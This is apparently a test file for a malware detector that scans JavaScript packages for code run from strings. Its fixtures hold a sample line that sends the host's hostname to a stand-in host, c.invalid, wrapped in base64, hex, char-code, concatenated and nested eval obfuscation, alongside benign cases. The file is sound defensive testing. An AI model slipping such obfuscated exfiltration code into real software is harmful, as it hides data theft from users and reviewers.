import { describe, expect, it } from 'vitest';
import { DETECTORS } from '../../src/analysis/detectors/index.js';
import { parse } from '../../src/analysis/parse.js';
import { runDetectors } from '../../src/analysis/run-detectors.js';
import type { CodeKind, Finding } from '../../src/report/report.js';

function findings(code: string, codeKind: CodeKind = 'entry'): Finding[] {
  const outcome = parse(code);
  if (!outcome.ok) throw new Error(outcome.reason);
  const run = runDetectors({ file: 'a.js', source: code, program: outcome.program, codeKind }, DETECTORS);
  expect(run.problems).toEqual([]);
  return run.findings;
}

const SEND = "const os = require('os'); fetch('https://c.invalid/?h=' + os.hostname());";
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const codes = (text: string): string => Array.from(text, (c) => c.charCodeAt(0)).join(',');

describe('code run from strings is analysed at the call that runs it', () => {
  it.each([
    ['eval of base64', `const p = Buffer.from('${base64(SEND)}', 'base64').toString();\neval(p);`, 'high', 'decoded from base64'],
    ['new Function of hex', `const body = Buffer.from('${hex(SEND)}', 'hex').toString();\nnew Function(body)();`, 'high', 'decoded from hex'],
    ['vm.runInNewContext of char codes', `const vm = require('vm');\nvm.runInNewContext(String.fromCharCode(${codes(SEND)}), { require });`, 'high', 'decoded from char-codes'],
    ['a timer given a concatenated string', `setTimeout("const os = require('os'); " + "fetch('https://c.invalid/?h=' + os.hostname());", 10);`, 'high', 'decoded from concatenation'],
    ['Function of a plain literal', `Function(${JSON.stringify(SEND)})();`, 'medium', 'held in a string'],
  ])('%s', (_label, code, severity, how) => {
    const exfiltration = findings(code).filter((f) => f.ruleId === 'fingerprint-exfiltration');
    expect(exfiltration).toHaveLength(1);
    const [finding] = exfiltration;
    expect(finding?.severity).toBe(severity);
    expect(finding?.line).toBe(code.split('\n').length);
    expect(finding?.message).toContain(how);
    expect(finding?.evidence.details?.decodedCode).toBe(SEND);
  });

  it('install-time code run from a string is critical', () => {
    const code = `eval(Buffer.from('${base64(SEND)}', 'base64').toString());`;
    expect(findings(code, 'install').filter((f) => f.ruleId === 'fingerprint-exfiltration').map((f) => f.severity)).toEqual(['critical']);
  });

  it('code decoded from code decoded from a string is followed', () => {
    const inner = `eval(Buffer.from('${base64(SEND)}', 'base64').toString());`;
    const code = `eval(Buffer.from('${base64(inner)}', 'base64').toString());`;
    expect(findings(code).filter((f) => f.ruleId === 'fingerprint-exfiltration')).toHaveLength(1);
  });

  it.each([
    ['a template engine compiling a template it was given', 'const fn = new Function("data", compile(template)); fn({});'],
    ['a global-object probe', 'var g = Function("return this")();'],
    ['a timer given a function', "setTimeout(() => console.log(require('os').hostname()), 10);"],
    ['eval of code that reads nothing', "eval(Buffer.from('" + base64('console.log(1 + 1)') + "', 'base64').toString());"],
  ])('benign: %s has nothing above info', (_label, code) => {
    expect(findings(code).filter((f) => f.severity !== 'info')).toEqual([]);
  });

  it('code that cannot be decoded is named as not analysed', () => {
    const notes = findings('const fn = new Function("data", compile(template));').filter((f) => f.ruleId === 'analysis-evasion');
    expect(notes.map((f) => [f.severity, f.message])).toEqual([
      ['info', 'a.js runs code built at run time with Function(...) at 1:12 that could not be decoded, so what it runs was not analysed.'],
    ]);
  });
});
